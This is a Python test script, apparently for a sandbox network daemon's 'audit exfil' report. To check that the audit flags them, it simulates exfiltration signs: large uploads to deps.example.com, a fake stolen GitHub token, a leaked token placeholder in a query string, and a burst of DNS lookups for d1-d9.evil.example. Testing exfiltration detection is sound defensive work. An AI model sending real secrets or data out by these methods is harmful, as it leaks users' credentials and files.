#!/usr/bin/python3 -B
"""C25, durward audit exfil: what could be data on its way out, beside what was really done."""
import json
import os
import re
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import api, scene, tap  # noqa: E402


def report(s, *flags):
    r = s.d.command("audit", "exfil", "--json", *flags, s.d.audit_dir)
    return json.loads(r.stdout), r


def main(t):
    s = scene.Scene(t)
    s.d.policy("quiet", s.rules)
    address, other = s.listener(), s.listener("quiet")
    s.d.serve()
    gate = s.gate(address)
    for size in (1000, 250000):
        t.eq(gate.get("deps.example.com", "/up", method="POST", body=b"x" * size).status, 200,
             "%d bytes go out" % size)
    for _ in range(2):
        r = gate.get("api.github.com", "/user", headers="Authorization: Bearer ghp_stolen\r\n")
        t.eq(r.code, "foreign_credential", "a foreign credential")
    gate.get("api.github.com", "/gists", method="POST", body=b"{}")
    own = [x.split("=", 1)[1].strip("'\"") for x in s.d.command(
        "env", "--policy", "coder", "--socket", s.d.socket).stdout.splitlines() if x.startswith("GITHUB_TOKEN=")]
    r = gate.get("deps.example.com", "/?x=" + own[0])
    t.eq(r.code, "secret_blocked", "a placeholder sent elsewhere")
    s.gate(other).get("api.github.com", "/user")
    box = None
    try:
        c = api.Api(s.d.socket)
        box = c.create(policy="coder")["id"]
        c.sh(box, "for i in 1 2 3 4 5 6 7 8 9; do getent hosts d$i.evil.example; done")
        c.delete(box)
        c.close()
    except api.Refused as e:
        t.skip("names asked for in a burst", "no sandbox can be made here: %s" % e)
    s.d.settle()
    want = {"up": 0, "down": 0}
    for x in s.d.records():
        if x["kind"] in ("completed", "aborted") and x.get("policy") == "coder":
            want["up"] += x.get("bytes_up", 0)
            want["down"] += x.get("bytes_down", 0)
    found, r = report(s)
    t.eq(r.returncode, 0, "audit exfil succeeds") or t.diag(r.stderr)
    first = found[0]
    t.ok(all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", first[x]) for x in ("first", "last")), "times are UTC, and say so",
         first["first"], first["last"])
    t.eq((first["sandbox"], first["policy"], first["foreign_credentials"]), ("", "coder", 2),
         "whoever has signs comes first")
    t.eq(first["misplaced"], 1, "a misplaced placeholder is a sign")
    t.ok(first["bytes_up"] >= 251000, "%d bytes out" % first["bytes_up"])
    t.eq((sum(x["bytes_up"] for x in found if x["policy"] == "coder"),
          sum(x["bytes_down"] for x in found if x["policy"] == "coder")),
         (want["up"], want["down"]), "bytes equal the log's")
    t.eq((first["requests"], first["denied"], first["hosts"]), (6, 4, 2), "requests and hosts")
    t.eq([(x["host"], x["requests"], x["denied"]) for x in first["destinations"]],
         [("deps.example.com", 3, 1), ("api.github.com", 3, 3)], "its destinations, by bytes out")
    t.eq(first["destinations"][0]["bytes_up"], 251000, "with their bytes")
    quiet = [x for x in found if x["policy"] == "quiet"]
    t.eq([(x["requests"], x["denied"], x["foreign_credentials"]) for x in quiet], [(1, 0, 0)],
         "another policy's by itself")
    if box:
        it = [x for x in found if x["sandbox"] == box]
        t.ok(it and it[0]["names_refused"] >= 9 and it[0]["burst"] >= 5,
             "a sandbox that asks for many names", str(it))
        t.eq([x["sandbox"] for x in report(s, "--sandbox", box)[0]], [box], "--sandbox")
    t.eq({x["policy"] for x in report(s, "--policy", "quiet")[0]}, {"quiet"}, "--policy")
    t.eq(report(s, "--since", "2100-01-01")[0], [], "--since")
    r = s.d.command("audit", "exfil", s.d.audit_dir)
    t.ok("foreign credential 2" in r.stdout and "251 KB" in r.stdout and "DESTINATION" in r.stdout,
         "as tables", r.stdout, r.stderr)
    s.clean([r.stdout])
    t.eq(s.d.stop(), 0, "the daemon ends well")


tap.run(main)
